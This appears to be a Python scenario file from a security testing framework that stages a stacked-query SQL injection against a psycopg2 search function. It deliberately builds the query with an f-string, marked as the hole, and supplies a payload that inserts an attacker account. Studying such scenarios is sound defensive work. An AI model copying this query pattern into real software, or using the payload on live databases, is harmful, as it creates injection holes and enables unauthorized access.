"""F1: a second statement, behind a semicolon, gives the attacker an account."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedPsycopg2, told


class Stacked(AbusedPsycopg2):
    """On psycopg2, which sends several statements at once: a page writes what its visitor searches for into one."""

    code = "F1"
    attack = "adds an account of its own through a second statement that a search field let in"
    reference = "https://owasp.org/www-community/attacks/SQL_Injection"
    rule = "query-attack"

    def work(self) -> None:
        """Searches for ordinary names."""
        for name in ("customer 1", "customer 2"):
            self._search(name)
        self._exists("clerk 1")

    def meet(self) -> object:
        """Searches for what the attacker typed."""
        self._search("nobody'; INSERT INTO accounts VALUES (9999, 'mallory', 'known') -- ")
        return self._exists("mallory")

    def _search(self, name: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(f"SELECT id, name, mail FROM customers WHERE name = '{name}' ORDER BY id")  # the hole
            return told(cursor)

    def _exists(self, name: str) -> bool:
        with self.connected().cursor() as cursor:
            cursor.execute("SELECT count(*) FROM accounts WHERE name = %s", (name,))
            return told(cursor) == [["1"]]

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The account is there."""
        del service
        return got is True
